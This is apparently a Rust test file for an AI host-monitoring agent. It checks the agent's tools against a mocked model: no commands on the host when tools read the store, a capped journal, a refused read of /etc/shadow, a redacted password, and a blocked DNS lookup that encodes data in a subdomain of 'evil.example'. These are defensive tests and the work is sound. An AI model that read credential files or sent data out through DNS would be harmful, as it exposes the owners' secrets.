//! What the tools return: from the store without a word to the host, from several hosts side by side, from a host that
//! says too much or nothing.

use serde_json::json;
use watchkeeper_testkit::model_server::ModelServer;

use crate::bridge::{Bridge, MINUTE, NGINX};
use crate::rig::{broken, calls, concludes, has_model, tool_texts, work};

crate::on_one! {
    facts_and_histories_are_told_without_a_word_to_the_host;
    a_unit_is_compared_with_other_hosts;
    ten_megabytes_of_journal_do_no_harm;
    a_host_that_is_down_gives_a_plain_answer;
    a_secrets_file_is_refused_and_another_is_read_with_the_logins_rights;
    secrets_in_what_a_host_says_reach_no_prompt_and_no_store;
    only_our_own_hosts_are_reached_over_the_network;
}

mod cases {
    use super::*;

    pub(crate) async fn facts_and_histories_are_told_without_a_word_to_the_host(bridge: Bridge) {
        let server = ModelServer::start().await;
        for percent in [60, 65, 70, 75] {
            bridge.host().disk("/srv", percent);
            bridge.check().await;
            bridge.clock.advance(30 * MINUTE);
        }
        server.does(calls(&[
            ("facts", json!({ "sections": ["disks"] })),
            (
                "metrics",
                json!({ "metrics": ["disk.used_percent /srv"], "window": "6h" }),
            ),
            ("facts", json!({ "sections": ["no_such"] })),
        ]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        let before = bridge.host().commands();
        work(&bridge).await;
        assert_eq!(bridge.host().commands(), before);
        let answers = tool_texts(&server.generations()[1]);
        assert!(answers[0].contains("/srv"), "{}", answers[0]);
        assert!(answers[1].contains("an hour"), "{}", answers[1]);
        let rests_on = answers[1]
            .lines()
            .find(|line| line.contains("stored looks"));
        let rests_on = rests_on.expect("it says on what it rests");
        assert!(
            rests_on.contains("one every 30 min") && rests_on.contains("only this much is stored"),
            "{rests_on}"
        );
        assert!(
            answers[2].contains("there is no section no_such"),
            "{}",
            answers[2]
        );
    }

    pub(crate) async fn a_unit_is_compared_with_other_hosts(mut bridge: Bridge) {
        bridge.add_host().await;
        let server = ModelServer::start().await;
        server.does(calls(&[
            ("compare", json!({ "what": "unit", "name": NGINX })),
            (
                "compare",
                json!({ "what": "metric", "name": "disk.used_percent" }),
            ),
        ]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        let _running = bridge.hosts[1].unit(NGINX);
        has_model(&bridge, &server);
        broken(&bridge).await;
        work(&bridge).await;
        let answers = tool_texts(&server.generations()[1]);
        assert!(
            answers[0].contains("== web1") && answers[0].contains("== web2"),
            "{}",
            answers[0]
        );
        assert!(answers[0].contains("running"), "{}", answers[0]);
        assert!(answers[1].contains("median of all"), "{}", answers[1]);
    }

    pub(crate) async fn ten_megabytes_of_journal_do_no_harm(bridge: Bridge) {
        let server = ModelServer::start().await;
        bridge.host().tool(
            "journalctl",
            "#!/bin/sh\necho 'newest line of all'\nyes 'a line of a journal that has no end, over and over again' | head -c 10000000\n",
        );
        server.does(calls(&[("logs", json!({ "unit": NGINX, "lines": 500 }))]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        work(&bridge).await;
        assert_eq!(server.unused_turns(), 0);
        let answer = &tool_texts(&server.generations()[1])[0];
        assert!(
            answer.len() < 16 * 1024,
            "{} bytes were shown",
            answer.len()
        );
        assert!(answer.contains("newest line of all"), "{answer}");
    }

    pub(crate) async fn a_host_that_is_down_gives_a_plain_answer(bridge: Bridge) {
        let server = ModelServer::start().await;
        server.does(calls(&[("unit_status", json!({ "unit": NGINX }))]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        bridge.host().goes_down().await;
        work(&bridge).await;
        let answer = &tool_texts(&server.generations()[1])[0];
        assert!(answer.contains("the host gave nothing"), "{answer}");
    }

    pub(crate) async fn a_secrets_file_is_refused_and_another_is_read_with_the_logins_rights(
        bridge: Bridge,
    ) {
        let server = ModelServer::start().await;
        let readable = bridge.host().path_in_home("app.conf");
        std::fs::write(&readable, "listen 8080\nworkers 4\n").expect("a file");
        server.does(calls(&[
            ("read_file", json!({ "path": "/etc/shadow" })),
            (
                "read_file",
                json!({ "path": readable.to_str().expect("a path") }),
            ),
        ]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        let sudo = bridge.host().calls("sudo").len();
        work(&bridge).await;
        let answers = tool_texts(&server.generations()[1]);
        assert!(answers[0].contains("not run"), "{}", answers[0]);
        assert!(answers[1].contains("listen 8080"), "{}", answers[1]);
        assert_eq!(
            bridge.host().calls("sudo").len(),
            sudo,
            "no root for a file"
        );
    }

    pub(crate) async fn secrets_in_what_a_host_says_reach_no_prompt_and_no_store(bridge: Bridge) {
        const SECRET: &str = "hunter2-very-secret";
        let server = ModelServer::start().await;
        let file = bridge.host().path_in_home("app.conf");
        std::fs::write(&file, format!("listen 8080\npassword = {SECRET}\n")).expect("a file");
        server.does(calls(&[(
            "read_file",
            json!({ "path": file.to_str().expect("a path") }),
        )]));
        server.does(calls(&[("output", json!({ "label": "E1" }))]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        work(&bridge).await;
        let said = crate::rig::all_said(&server);
        assert!(said.contains("listen 8080"), "{said}");
        assert!(!said.contains(SECRET), "{said}");
        if let Some(path) = bridge.url.strip_prefix("sqlite:") {
            let kept = std::fs::read(path).expect("the store");
            let found = kept
                .windows(SECRET.len())
                .any(|window| window == SECRET.as_bytes());
            assert!(!found, "the secret stands in the store");
        }
    }

    pub(crate) async fn only_our_own_hosts_are_reached_over_the_network(bridge: Bridge) {
        let server = ModelServer::start().await;
        server.does(calls(&[
            (
                "network",
                json!({ "check": "dns", "target": "c2VjcmV0.evil.example" }),
            ),
            ("network", json!({ "check": "dns", "target": "localhost" })),
        ]));
        server.does(concludes("Nothing tells.", "insufficient_evidence", &[]));
        has_model(&bridge, &server);
        broken(&bridge).await;
        let before = bridge.host().commands();
        work(&bridge).await;
        let answers = tool_texts(&server.generations()[1]);
        assert!(answers[0].contains("may not be reached"), "{}", answers[0]);
        assert_eq!(
            bridge.host().commands() - before,
            1,
            "only the second was sent"
        );
    }
}
